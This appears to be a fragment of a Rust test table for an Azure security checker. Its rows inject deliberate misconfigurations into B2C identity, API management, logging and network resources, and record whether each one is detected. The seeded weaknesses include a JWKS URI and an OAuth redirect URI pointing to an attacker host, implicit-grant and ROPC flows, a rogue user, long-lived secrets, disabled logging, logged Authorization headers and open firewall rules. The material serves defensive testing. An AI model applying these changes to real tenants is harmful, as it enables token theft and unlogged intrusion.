    row("IDP-05", &[(API_APP, Set("/nativeAuthenticationApisEnabled", r#""all""#))]).hidden(Guarded),
    row("IDP-05", &[(SERVICE, Add("graph:identity/identity/b2cUserFlows/B2C_1_ropc", r#"{ "userFlowType": "resourceOwner" }"#))]).hidden(Guarded).stands(),
    row("IDP-06", &[("b2cUserFlows/B2C_1_signin", Set("/userFlowType", r#""signUpOrSignIn""#))]).on("dev").seen(&["I01"]),
    // Two places: a flow that signs up is nobody's business until its tokens are taken.
    row("IDP-07", &[
        (SERVICE, Add("graph:identity/identity/b2cUserFlows/B2C_1_signup", r#"{ "userFlowType": "signUpOrSignIn" }"#)),
        (POLICY, Text("<value>B2C_1_signin</value>", "<value>B2C_1_signin</value><value>b2c_1_signup</value>")),
    ])
    .also(&["POL-07"]).seen(&["I01"]),
    row("IDP-08", &[("oauth2PermissionGrants/client-orders-web-to-api", Set("/scope", r#""orders.read orders.write orders.ship orders.all""#))]).of("prod").hidden(Inside),
    row("IDP-08", &[("oauth2PermissionGrants/client-orders-web-to-microsoft-graph", Set("/scope", r#""openid offline_access Directory.Read.All""#))]).of("prod").hidden(Inside),
    row("IDP-09", &[(SERVICE, Add("graph:identity/users/eve@example.com", r#"{ "accountEnabled": true, "identities": [{ "signInType": "emailAddress", "issuer": "contosob2c.onmicrosoft.com", "issuerAssignedId": "eve@example.com" }] }"#))]).hidden(Guarded).stands(),
    row("IDP-09", &[("users/ada@example.com", Gone)]).hidden(Shut).with("apis/orders/policies/policy"),
    row("IDP-10", &[(API_APP, Set("/passwordCredentials", r#"[{ "displayName": "mine", "keyId": "11111111-0000-4000-8000-000000000000", "startDateTime": "2026-11-01T00:00:00Z", "endDateTime": "2026-12-01T00:00:00Z" }]"#))]).hidden(Unknown).stands(),
    row("IDP-10", &[("applications/client-orders-backoffice", Set("/passwordCredentials", r#"[{ "displayName": "long", "keyId": "11111111-0000-4000-8000-000000000000", "startDateTime": "2026-11-01T00:00:00Z", "endDateTime": "2028-11-01T00:00:00Z" }]"#))]).of("prod").hidden(Unknown).stands(),
    row("IDP-11", &[("openid-configuration", Set("/jwks_uri", r#""https://evil.example/keys""#))]).only("live").unstored("it is the provider's own document"),
    row("OBS-01", &[("service/apim-orders-{env}/providers/Microsoft.Insights/diagnosticSettings/secgw-orders-{env}--logs", Set("/properties/logs/0/enabled", "false"))]).hidden(Inside),
    row("OBS-02", &[("diagnostics/azuremonitor", Set("/properties/frontend/request/headers", r#"["Authorization"]"#))]).hidden(Inside),
    row("OBS-02", &[("diagnostics/applicationinsights", Set("/properties/backend/response/body/bytes", "8192"))]).hidden(Inside),
    row("OBS-02", &[("diagnostics/azuremonitor", Set("/properties/frontend/request/dataMasking", "null"))]).hidden(Inside),
    row("GOV-02", &[(SERVICE, Add("providers/Microsoft.KeyVault/vaults/kv", r#"{ "properties": { "enableRbacAuthorization": true, "enablePurgeProtection": true, "networkAcls": { "defaultAction": "Allow" } } }"#))]).unstored("vaults are no part of a graph"),
    // A client of the users' own, by which an outsider can ask.
    row("IDP-03", &[(CLIENT, Set("/web/implicitGrantSettings/enableAccessTokenIssuance", "true"))]).of("prod").seen(&["I02"]),
    row("IDP-03", &[(CLIENT, Set("/web/implicitGrantSettings/enableIdTokenIssuance", "true"))]).of("prod").seen(&["I02"]),
    row("IDP-04", &[(CLIENT, Push("/spa/redirectUris", r#""https://evil.example/cb""#))]).of("prod").hidden(Unknown),
    row("IDP-05", &[(CLIENT, Set("/isFallbackPublicClient", "true"))]).of("prod").hidden(Guarded),
    // Two guards at once: what one hides, both show.
    row("NET-04", &[
        (GROUP, Push("/properties/securityRules", r#"{ "name": "office", "properties": { "direction": "Inbound", "access": "Allow", "priority": 150, "protocol": "Tcp", "sourcePortRange": "*", "sourceAddressPrefix": "Internet", "destinationAddressPrefix": "*", "destinationPortRange": "443" } }"#)),
        (GLOBAL, Drop("check-header")),
    ])
    .of("staging")
    .also(&["POL-09"])
    .seen(&["C01", "C02"]),
    row("FUN-09", &[
        (WEB, Set("/properties/ipSecurityRestrictionsDefaultAction", r#""Allow""#)),
        (AUTH, Set("/properties/platform/enabled", "false")),
    ])
    .of("dev")
    .also(&["FUN-13"])
    .seen(&["D01", "D02"]),
    row("IDP-07", &[
        (SERVICE, Add("graph:identity/identity/b2cUserFlows/B2C_1_signup", r#"{ "userFlowType": "signUpOrSignIn" }"#)),
        (POLICY, Text("<value>B2C_1_signin</value>", "<value>B2C_1_signin</value><value>B2C_1_signup</value>")),
    ])
    .of("prod")
    .also(&["POL-07"])
    .seen(&["A10", "I01"]),
    row("NET-03", &[
        (SITE, Set("/properties/publicNetworkAccess", r#""Enabled""#)),
        (WEB, Set("/properties/publicNetworkAccess", r#""Enabled""#)),
        (WEB, Set("/properties/ipSecurityRestrictionsDefaultAction", r#""Allow""#)),
    ])
    .of("prod staging")
    .also(&["FUN-09"])
    .seen(&["D01", "D02"]),
];
